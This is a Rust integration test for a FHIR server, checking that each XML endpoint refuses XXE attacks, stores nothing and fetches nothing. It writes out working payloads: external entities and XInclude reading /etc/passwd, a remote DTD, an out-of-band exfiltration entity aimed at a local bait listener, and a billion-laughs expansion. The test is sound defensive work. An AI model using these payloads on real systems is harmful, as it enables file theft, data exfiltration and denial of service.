//! XML external entities, external DTDs, XInclude and entity expansion are refused at every
//! endpoint that reads XML: create, update, `$validate` (system and type level), a transaction
//! Bundle and `Patient/$match`. The payloads have the shapes of the 2024 HAPI FHIR XXE
//! advisories (CVE-2024-45294, CVE-2024-51132, CVE-2024-52007: entities declared in a DOCTYPE,
//! resolved by the XML or narrative XHTML reader) plus XInclude and "billion laughs". Each
//! must be answered 400 with an OperationOutcome (`security`), never echo a local file, store
//! nothing, and make no outbound request.

mod common;

use common::TestServer;
use serde_json::Value;
use std::net::TcpListener;
use std::time::Duration;

/// One hostile document shape: a prolog before the root and the content of the Patient.
struct Shape {
    name: &'static str,
    prolog: String,
    patient_content: String,
}

/// The shapes, with `bait` (`http://127.0.0.1:PORT`) as the address of any remote fetch.
fn shapes(bait: &str) -> Vec<Shape> {
    let laughs: String = (1..10)
        .map(|level| {
            let previous = format!("&lol{};", level - 1).repeat(10);
            format!("<!ENTITY lol{level} \"{previous}\">")
        })
        .collect();
    vec![
        Shape {
            name: "external general entity (file)",
            prolog: "<!DOCTYPE Patient [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>".into(),
            patient_content: "<name><family value=\"&xxe;\"/></name>".into(),
        },
        Shape {
            name: "external DTD over http",
            prolog: format!("<!DOCTYPE Patient SYSTEM \"{bait}/evil.dtd\">"),
            patient_content: "<active value=\"true\"/>".into(),
        },
        Shape {
            name: "remote parameter entity (out-of-band exfiltration)",
            prolog: format!(
                "<!DOCTYPE Patient [<!ENTITY % remote SYSTEM \"{bait}/p.dtd\"> %remote; %wrapper;]>"
            ),
            patient_content: "<name><family value=\"&exfil;\"/></name>".into(),
        },
        Shape {
            name: "external entity inside the narrative XHTML",
            prolog: "<!DOCTYPE div [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>".into(),
            patient_content: "<text><status value=\"generated\"/><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>&xxe;</p></div></text>".into(),
        },
        Shape {
            name: "XInclude inside the narrative XHTML",
            prolog: String::new(),
            patient_content: "<text><status value=\"generated\"/><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>x</p><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/></div></text>".into(),
        },
        Shape {
            name: "XInclude as an element of the resource",
            prolog: String::new(),
            patient_content: format!("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{bait}/x\" parse=\"text\"/>"),
        },
        Shape {
            name: "billion laughs",
            prolog: format!("<!DOCTYPE Patient [<!ENTITY lol0 \"lol\">{laughs}]>"),
            patient_content: "<name><family value=\"&lol9;\"/></name>".into(),
        },
    ]
}

/// An endpoint that reads XML, and how the Patient is carried in its body.
struct Endpoint {
    method: reqwest::Method,
    path: &'static str,
    carrier: Carrier,
}

enum Carrier {
    /// The body is the Patient.
    Resource,
    /// The Patient is the entry of a transaction Bundle.
    TransactionBundle,
    /// The Patient is the `resource` parameter of a Parameters.
    Parameters,
}

fn endpoints() -> Vec<Endpoint> {
    let endpoint = |method, path, carrier| Endpoint {
        method,
        path,
        carrier,
    };
    vec![
        endpoint(reqwest::Method::POST, "Patient", Carrier::Resource),
        endpoint(
            reqwest::Method::PUT,
            "Patient/xxe-target",
            Carrier::Resource,
        ),
        endpoint(reqwest::Method::POST, "$validate", Carrier::Resource),
        endpoint(
            reqwest::Method::POST,
            "Patient/$validate",
            Carrier::Resource,
        ),
        endpoint(reqwest::Method::POST, "", Carrier::TransactionBundle),
        endpoint(reqwest::Method::POST, "Patient/$match", Carrier::Parameters),
    ]
}

fn document(shape: &Shape, endpoint: &Endpoint) -> String {
    let fhir = "xmlns=\"http://hl7.org/fhir\"";
    let id = match endpoint.carrier {
        Carrier::Resource if endpoint.method == reqwest::Method::PUT => {
            "<id value=\"xxe-target\"/>"
        }
        _ => "",
    };
    let content = &shape.patient_content;
    let body = match endpoint.carrier {
        Carrier::Resource => format!("<Patient {fhir}>{id}{content}</Patient>"),
        Carrier::TransactionBundle => format!(
            "<Bundle {fhir}><type value=\"transaction\"/><entry><fullUrl value=\"urn:uuid:6c1f4f5e-5d2a-4a5e-9d0e-2b7f3c1a9e10\"/><resource><Patient>{content}</Patient></resource><request><method value=\"POST\"/><url value=\"Patient\"/></request></entry></Bundle>"
        ),
        Carrier::Parameters => format!(
            "<Parameters {fhir}><parameter><name value=\"resource\"/><resource><Patient>{content}</Patient></resource></parameter></Parameters>"
        ),
    };
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{}\n{body}",
        shape.prolog
    )
}

#[tokio::test]
async fn every_xml_endpoint_refuses_every_xxe_shape_and_fetches_nothing() {
    let bait = TcpListener::bind("127.0.0.1:0").unwrap();
    bait.set_nonblocking(true).unwrap();
    let bait_url = format!("http://{}", bait.local_addr().unwrap());
    let server = TestServer::start();

    for shape in shapes(&bait_url) {
        for endpoint in endpoints() {
            let body = document(&shape, &endpoint);
            let response = server
                .client
                .request(endpoint.method.clone(), server.url(endpoint.path))
                .header("Content-Type", "application/fhir+xml")
                .header("Accept", "application/fhir+json")
                .body(body)
                .send()
                .await
                .unwrap();
            let status = response.status().as_u16();
            let text = response.text().await.unwrap();
            let what = format!("{} to {} {}", shape.name, endpoint.method, endpoint.path);
            assert_eq!(status, 400, "{what}: {text}");
            assert!(
                !text.contains("root:"),
                "{what} echoed a local file: {text}"
            );
            let outcome: Value = serde_json::from_str(&text).unwrap();
            assert_eq!(outcome["resourceType"], "OperationOutcome", "{what}");
            assert_eq!(outcome["issue"][0]["code"], "security", "{what}: {text}");
        }
    }

    let (status, history) = server.get_json("_history").await;
    assert_eq!(status, 200);
    assert_eq!(history["total"], 0, "nothing was stored: {history}");
    let (status, search) = server.get_json("Patient").await;
    assert_eq!(status, 200);
    assert!(search.get("entry").is_none(), "no Patient: {search}");

    tokio::time::sleep(Duration::from_millis(300)).await;
    match bait.accept() {
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
        Ok((_, peer)) => panic!("the gateway fetched from the bait address (from {peer})"),
        Err(error) => panic!("bait listener failed: {error}"),
    }
}

#[tokio::test]
async fn the_server_keeps_serving_after_entity_expansion_attempts() {
    let server = TestServer::start();
    let shapes = shapes("http://127.0.0.1:9");
    let laughs = shapes
        .iter()
        .find(|shape| shape.name == "billion laughs")
        .unwrap();
    let create = &endpoints()[0];
    for _ in 0..20 {
        let (status, _) = server
            .post_bytes("Patient", "application/fhir+xml", document(laughs, create))
            .await;
        assert_eq!(status, 400);
    }
    let (status, capability) = server.get_json("metadata").await;
    assert_eq!(status, 200);
    assert_eq!(capability["resourceType"], "CapabilityStatement");
}

#[tokio::test]
async fn a_plain_xml_patient_with_a_narrative_is_still_accepted() {
    let server = TestServer::start();
    let body = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Patient xmlns=\"http://hl7.org/fhir\"><text><status value=\"generated\"/><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Hanako Yamada</p></div></text><name><family value=\"Yamada\"/></name></Patient>";
    let (status, created) = server
        .post_bytes("Patient", "application/fhir+xml", body)
        .await;
    assert_eq!(status, 201, "{created}");
    let (_, search) = server.get_json("Patient?family=Yamada").await;
    assert_eq!(
        search["entry"].as_array().map(Vec::len),
        Some(1),
        "{search}"
    );
}
